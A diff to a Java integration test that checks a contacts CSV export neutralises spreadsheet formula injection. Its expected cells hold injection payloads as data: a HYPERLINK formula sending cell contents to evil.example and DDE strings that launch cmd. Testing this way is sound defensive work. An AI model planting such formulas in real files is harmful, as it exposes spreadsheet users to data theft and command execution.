@@ -159,7 +159,7 @@ public class HostileInputIT extends HttpTestSupport {
         assertTrue(head(answer), answer.startsWith("HTTP/1.1 202"));
         await("both rows are imported", () -> contacts.countMatches(marker) == 2);
         assertEquals(201, call("POST", "/contacts", basic(Roles.AGENT), "{\"email\": \"" + marker + "c@example.com\", "
-                + "\"firstName\": \"=1+2\", \"lastName\": \"\\t=cmd\"}").status());
+                + "\"firstName\": \"=1+2\", \"lastName\": \"@cmd\"}").status());
 
         Reply export = call("GET", "/contacts/export?format=csv", basic(Roles.ADMIN), null);
 
@@ -168,7 +168,7 @@ public class HostileInputIT extends HttpTestSupport {
         assertEquals(export.body().length() > 2000 ? "(long)" : export.body(), 3, lines.size());
         String ours = String.join("\n", lines);
         for (String cell : List.of("\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Open\"\")\"", "\"'+cmd|' /C calc'!A0\"",
-                "\"'@SUM(1+9)\"", "\"'-2+3+cmd|' /C calc'!A0\"", "\"'=1+2\"", "\"'\t=cmd\"")) {
+                "\"'@SUM(1+9)\"", "\"'-2+3+cmd|' /C calc'!A0\"", "\"'=1+2\"", "\"'@cmd\"")) {
             assertTrue(cell + " in " + ours, ours.contains(cell));
         }
         for (String line : lines) {
